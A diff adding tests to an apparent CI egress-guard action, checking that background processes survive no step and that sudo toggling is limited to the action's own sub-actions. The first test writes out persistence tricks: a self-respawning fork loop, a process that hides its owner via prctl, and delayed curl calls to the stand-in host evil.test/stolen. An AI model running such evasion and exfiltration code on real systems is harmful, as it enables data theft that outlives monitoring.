@@ -52,3 +52,60 @@ test("a job is guarded from before its first step to after its last", async (s) 
   assert.deepEqual(artifacts.map((path) => path.split("/").at(-1)), ["egress-connections.zip"]);
   await s.attackerGotNothing();
 });
+
+test("attack: what a step left in the background waits for the guard's end", async (s) => {
+  await using job = await Job.start(s);
+  const inputs = { INPUT_POLICY: "site.test\n" };
+  const pre = await job.hook("pre.js", inputs);
+  assert.equal(pre.code, 0, pre.output);
+  // One keeps making new ones of itself, one hides whose it is from those who look at /proc's owner.
+  const waiting = await job.step(
+    "__run",
+    `wait_for_it() {
+       until [ -e /run/egress/stopped.json ]; do sleep 0.05; done
+       while :; do curl -sk -m 2 https://evil.test/stolen; sleep 0.1; done
+     }
+     export -f wait_for_it
+     setsid bash -c wait_for_it >/dev/null 2>&1 &
+     setsid bash -c 'hop() { sleep 0.2; hop & }; hop' >/dev/null 2>&1 &
+     (setsid sudo -n -b true; exec setsid python3 -c '
+import ctypes, os, time
+ctypes.CDLL(None).prctl(4, 0)
+while not os.path.exists("/run/egress/stopped.json"): time.sleep(0.05)
+os.execvp("curl", ["curl", "-sk", "-m", "9", "https://evil.test/stolen"])') >/dev/null 2>&1 &
+     sleep 0.3; pgrep -c -f wait_for_it`,
+  );
+  assert.ok(Number(waiting.output) >= 1, waiting.output);
+  const post = await job.hook("post.js", { ...inputs, ...stateOf(pre) });
+  assert.equal(post.code, 0, post.output);
+  assert.match(
+    post.output,
+    /^egress: ended what the job left running: [3-9]\d* processes, 0 containers$/m,
+  );
+  assert.equal((await s.machine.sh("pgrep -u 1001 -x 'curl|bash|sleep'")).stdout, "");
+  await s.attackerGotNothing();
+});
+
+test("sudo is given and taken by the sub-actions alone", async (s) => {
+  await using job = await Job.start(s);
+  const inputs = { INPUT_POLICY: "site.test\n" };
+  const pre = await job.hook("pre.js", inputs);
+  assert.equal(pre.code, 0, pre.output);
+  const other = await job.hook("enable-sudo.js", { GITHUB_ACTION_REPOSITORY: "evil/egress" });
+  assert.equal(other.code, 1, other.output);
+  assert.match(
+    other.output,
+    /^::error title=egress::enable-sudo failed: refused: the caller belongs to evil\/egress/m,
+  );
+  assert.notEqual((await job.step("__run", "sudo -n true")).code, 0);
+  for (const [hook, code] of [["enable-sudo.js", 0], ["disable-sudo.js", 1]] as const) {
+    assert.equal((await job.hook(hook)).code, 0);
+    assert.equal((await job.step("__run", "sudo -n true 2>/dev/null")).code, code, hook);
+  }
+  // Neither may another action end the guard.
+  const post = await job.hook("post.js", { ...inputs, GITHUB_ACTION_REPOSITORY: "evil/egress" });
+  assert.equal(post.code, 1);
+  assert.match(post.output, /^::error .*The machine stays closed/m);
+  assert.equal((await job.hook("main.js", inputs)).code, 0);
+  assert.equal((await job.hook("post.js", { ...inputs, ...stateOf(pre) })).code, 0);
+});
